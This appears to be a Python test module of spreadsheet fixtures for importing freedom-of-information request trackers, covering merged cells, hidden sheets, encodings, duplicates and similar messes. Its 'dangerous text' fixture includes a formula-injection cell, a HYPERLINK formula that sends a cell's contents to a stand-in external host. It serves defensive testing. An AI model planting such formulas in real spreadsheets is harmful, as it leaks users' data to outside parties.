"""Sheets with the messes that real ones have, one or two in each (questions/spreadsheet_columns.md, section 4)."""

from tests.imports.making import Tab, csv_of, day, table, xlsx_of
from tests.imports.sheets.fixture import Fixture

PLAIN = table("""
Authority | Date sent | Status | Notes
Bath and North East Somerset | 02/03/2026 | Sent | A
Swindon Borough Council | 03/03/2026 | Refused | B
Torbay Council | 04/03/2026 | Full | C
Plymouth City Council | 05/03/2026 | Partial | D
""")
TITLE = [["Live facial recognition: who uses it?"], [], ["Authority", "Date sent", "Status", "Notes"], *PLAIN[1:]]
GROUPS = [
    ["Authority", "Sent", "Q1 How many deployments?", "", "Q2 How many watchlist images?", "", "Notes"],
    ["", "", "[number]", "Evidence", "[number]", "Evidence", ""],
    ["Gwent Police", day("2026-03-02"), 12, "p. 3", 4500, "p. 4", ""],
    ["South Wales Police", day("2026-03-02"), 61, "annex A", 900, "annex A", "biggest user"],
    ["Sussex Police", day("2026-03-03"), "nil", "", "N/A", "", ""],
]
REPEATED = [*PLAIN[:3], PLAIN[0], *PLAIN[3:], [], ["Authority", "Date sent", "Status", "Notes"]]
TOTALS = [
    ["Council", "Date sent", "Cameras", "Cost"],
    ["Hull City Council", day("2026-03-02"), 14, 1200.5],
    ["East Riding of Yorkshire", day("2026-03-02"), 3, 0],
    ["North Lincolnshire", day("2026-03-03"), 40, 99000],
    ["Total", "", None, None],
]
HIDDEN = [
    ["Authority", "Private e-mail", "Date sent", "Status"],
    ["Medway Council", "jo@barchester.example", day("2026-03-02"), "Sent"],
    ["Thanet District Council", "sam@barchester.example", day("2026-03-02"), "Test row, ignore"],
    ["Dover District Council", "jo@barchester.example", day("2026-03-03"), "Sent"],
]
LONG_NAME = "Q3 How many deployments of live facial"[:31]
PEOPLE = table("""
Authority | Assigned to | Filed by | Date sent | FOI officer | Tel
Derby City Council | JS | jo.smith@barchester.example | 02/03/2026 | Officer A | 01632 960001
Derbyshire Dales | J. Smith | Jo Smith | 02/03/2026 | Officer B | 01632 960002
High Peak | Jo | "sam" | 03/03/2026 |  |
Amber Valley | JS / SK | Sam K | 03/03/2026 | n/a |
Bolsover |  | unassigned | 03/03/2026 | |
""")
DUPLICATES = table("""
Council | Wave | Sent | Status | Link
Reading Borough Council | 1 | 02/03/2026 | Sent | www.whatdotheyknow.com/request/reading_1
Reading Borough Council | 1 | 02/03/2026 | Sent | www.whatdotheyknow.com/request/reading_1
Reading | 2 | 02/06/2026 | Sent | whatdotheyknow.com/request/reading_2
Slough Borough Council | 1 | 03/03/2026 | Sent | https://www.whatdotheyknow.com/request/slough#incoming-12
Slough BC | 1 | 04/03/2026 | Refused | HTTPS://WWW.WHATDOTHEYKNOW.COM/request/slough
""")
DANGER = [
    ["Authority", "Date sent", "Notes"],
    ["Stoke-on-Trent", "02/03/2026", '=HYPERLINK("https://barchester.example/?x="&A1,"open")'],
    ["Newcastle-under-Lyme", "02/03/2026", "+44 1632 960000"],
    ["Stafford", "02/03/2026", "-not sent yet"],
    ["Lichfield", "02/03/2026", "@sam to check"],
    ["Tamworth", "02/03/2026", "'=1+1 was typed with an apostrophe"],
]
MERGED_ROWS = [
    ["Region", "Authority", "Date sent", "Status"],
    ["", "Gateshead", day("2026-03-02"), "Sent"],
    ["", "Sunderland", day("2026-03-02"), "Sent"],
    ["", "South Tyneside", day("2026-03-03"), "Refused"],
    ["Scotland", "Moray", day("2026-03-03"), "Sent"],
]
MERGED_AUTHORITY = [
    ["Council", "Topic", "Sent"],
    ["", "Facial recognition", day("2026-03-02")],
    ["", "Number plates", day("2026-04-02")],
    ["Ipswich Borough Council", "Facial recognition", day("2026-03-02")],
]
COLOURED = [
    ["Authority", "Status", "Sent"],
    ["Luton Borough Council", "", day("2026-03-02")],
    ["Bedford", "", day("2026-03-02")],
    ["Central Bedfordshire", "✓", day("2026-03-03")],
]
BROKEN_LINES = [
    ["Authority", "Date sent", "Notes"],
    ["Wirral", "02/03/2026", "They say:\r\n“We do not hold this”,\r\nthen: see s.1"],
    ["Knowsley", "02/03/2026", "One\nTwo; three"],
    ["Sefton", "03/03/2026", 'She said "no", twice'],
    ["Halton", "03/03/2026", "Old\rMac"],
]
SMART = table("""
Authority | Date sent | Notes
King’s Lynn and West Norfolk | 02/03/2026 | “Not held” – they said
Great Yarmouth | 02/03/2026 | £3.2m … and more
Breckland | 03/03/2026 | café
""")


def _ninety():
    headings = ["Police force", "Sent", *(f"Q{number}{part}" for number in range(1, 45) for part in ("", " evidence"))]
    forces = ("Kent Police", "Merseyside Police", "Cheshire Constabulary", "Humberside Police", "Police Scotland")
    return [headings, *([force, day("2026-03-02"), *(f"{n} of {force}"[:9] for n in range(88))] for force in forces)]


MESSES = (
    Fixture(
        name="headings on row 3", filename="title.csv", about="a title and a blank row above the headings",
        make=lambda: csv_of(TITLE), kind="csv", header_rows=(3,), headings=tuple(TITLE[2]), requests=4,
    ),
    Fixture(
        name="blank rows on top", filename="blank top.xlsx", about="the table begins in B4",
        make=lambda: xlsx_of(Tab(rows=[[], [], [], *(["", *row] for row in PLAIN)])), kind="xlsx", header_rows=(4,),
        headings=tuple(PLAIN[0]), requests=4, cells={"A4": "", "B4": "Authority", "B5": "Bath and North East Somerset"},
    ),
    Fixture(
        name="two rows of headings", filename="groups.xlsx", about="questions merged over their parts",
        make=lambda: xlsx_of(Tab(rows=GROUPS, merged={"C1:D1": GROUPS[0][2], "E1:F1": GROUPS[0][4], "A1:A2": "Authority"})),  # noqa: E501
        kind="xlsx", header_rows=(1, 2), headings=("Authority", "Sent"), requests=3,
        said={"merged": ("C1:D1", "E1:F1", "A1:A2")},
    ),
    Fixture(
        name="repeated headings", filename="repeated.csv", about="the headings again in the middle and at the end",
        make=lambda: csv_of(REPEATED), kind="csv", headings=tuple(PLAIN[0]), requests=4,
    ),
    Fixture(
        name="totals", filename="totals.xlsx", about="a row of totals, made by formulas",
        make=lambda: xlsx_of(Tab(rows=TOTALS, formulas={"C5": ("=SUM(C2:C4)", 57), "D5": ("=SUM(D2:D4)", 100200.5)})),
        kind="xlsx", headings=tuple(TOTALS[0]), requests=3, cells={"C5": "57", "D2": "1200.5", "D5": "100200.5"},
    ),
    Fixture(
        name="hidden rows and columns", filename="hidden.xlsx", about="a hidden row and a hidden column, both with data",  # noqa: E501
        make=lambda: xlsx_of(Tab(rows=HIDDEN, hidden_rows=(3,), hidden_columns=("B",))), kind="xlsx",
        headings=("Authority", "Date sent", "Status"), requests=2, said={"hidden_rows": (3,), "hidden_columns": (1,)},
    ),
    Fixture(
        name="hidden sheets", filename="hidden sheets.xlsx", about="a hidden sheet before it, a very hidden one after",
        make=lambda: xlsx_of(Tab(rows=HIDDEN, name="Old", hidden=True), Tab(rows=PLAIN, name="Now"), Tab(rows=HIDDEN, name="Secret", hidden="very")),  # noqa: E501
        kind="xlsx", headings=tuple(PLAIN[0]), requests=4,
        said={"sheets": (("Old", True), ("Now", False), ("Secret", True))},
    ),
    Fixture(
        name="a sheet a question", filename="by question.xlsx", about="a sheet for each question, names cut at 31 letters",  # noqa: E501
        make=lambda: xlsx_of(Tab(rows=[["Read me"]], name="Read me"), Tab(rows=PLAIN, name=LONG_NAME), Tab(rows=PLAIN, name="Q4 Cost")),  # noqa: E501
        kind="xlsx", sheet=LONG_NAME, headings=tuple(PLAIN[0]), requests=4,
        said={"sheets": (("Read me", False), (LONG_NAME, False), ("Q4 Cost", False))},
    ),
    Fixture(
        name="people", filename="people.csv", about="people by initials, by name, by e-mail, two in a cell",
        make=lambda: csv_of(PEOPLE), kind="csv", headings=tuple(PEOPLE[0]), requests=5,
    ),
    Fixture(
        name="duplicates", filename="duplicates.csv", about="the same row twice, another wave, one page in two spellings",  # noqa: E501
        make=lambda: csv_of(DUPLICATES), kind="csv", headings=tuple(DUPLICATES[0]), requests=5,
    ),
    Fixture(
        name="dangerous text", filename="danger.csv", about="text that a spreadsheet would run",
        make=lambda: csv_of(DANGER), kind="csv", headings=tuple(DANGER[0]), requests=5,
        cells={"C2": DANGER[1][2], "C3": "+44 1632 960000", "C4": "-not sent yet", "C6": DANGER[5][2]},
    ),
    Fixture(
        name="a region for several rows", filename="regions.xlsx", about="a region merged over three rows",
        make=lambda: xlsx_of(Tab(rows=MERGED_ROWS, merged={"A2:A4": "North East"})), kind="xlsx",
        headings=tuple(MERGED_ROWS[0]), requests=4, said={"merged": ("A2:A4",)}, cells={"A2": "North East", "A5": "Scotland"},  # noqa: E501
    ),
    Fixture(
        name="an authority for several rows", filename="topics.xlsx", about="an authority merged over two requests",
        make=lambda: xlsx_of(Tab(rows=MERGED_AUTHORITY, merged={"A2:A3": "Norwich City Council"})), kind="xlsx",
        headings=tuple(MERGED_AUTHORITY[0]), requests=3, said={"merged": ("A2:A3",)},
    ),
    Fixture(
        name="colours", filename="colours.xlsx", about="the status is the colour of a cell",
        make=lambda: xlsx_of(Tab(rows=COLOURED, fills={"B2": "#FF0000", "B3": "#00B050", "A4": "#FFFFFF"})), kind="xlsx",  # noqa: E501
        headings=tuple(COLOURED[0]), requests=3, said={"colours": {"B2": "#ff0000", "B3": "#00b050"}},
    ),
    Fixture(
        name="line breaks", filename="breaks.csv", about="every kind of line break, and quotation marks, inside cells",
        make=lambda: csv_of(BROKEN_LINES), kind="csv", headings=tuple(BROKEN_LINES[0]), requests=4,
        cells={"C2": "They say:\n“We do not hold this”,\nthen: see s.1", "C4": 'She said "no", twice', "C5": "Old\nMac"},  # noqa: E501
    ),
    Fixture(
        name="windows", filename="smart.csv", about="cp1252 with smart quotation marks and semicolons",
        make=lambda: csv_of(SMART, encoding="cp1252", delimiter=";"), kind="csv", headings=tuple(SMART[0]), requests=3,
        said={"encoding": "cp1252", "delimiter": ";"}, cells={"A2": "King’s Lynn and West Norfolk", "C3": "£3.2m … and more"},  # noqa: E501
    ),
    Fixture(
        name="macintosh", filename="mac.csv", about="saved by an old Macintosh: its letters, its line ends, bars",
        make=lambda: csv_of(SMART, encoding="mac-roman", delimiter="|", ends="\r"), kind="csv",
        headings=tuple(SMART[0]), requests=3, said={"encoding": "mac-roman", "delimiter": "|"}, cells={"C4": "café"},
    ),
    Fixture(
        name="unicode text", filename="unicode.txt", about="what Excel calls Unicode text: UTF-16 with tabs",
        make=lambda: csv_of(SMART, encoding="utf-16", delimiter="\t"), kind="csv", headings=tuple(SMART[0]), requests=3,
        said={"encoding": "utf-16", "delimiter": "\t"}, cells={"C2": "“Not held” – they said"},
    ),
    Fixture(
        name="ninety columns", filename="wide.xlsx", about="90 columns: 44 questions, each with its evidence",
        make=lambda: xlsx_of(Tab(rows=_ninety(), name="LFR")), kind="xlsx", headings=("Police force", "Sent", "Q44"),
        requests=5, said={"column_count": 90},
    ),
    Fixture(
        name="empty rows below", filename="empty below.xlsx", about="5,000 formatted empty rows under the table",
        make=lambda: xlsx_of(Tab(rows=PLAIN, blank_below=5_000)), kind="xlsx", headings=tuple(PLAIN[0]), requests=4,
        said={"row_count": 5},
    ),
)  # fmt: skip
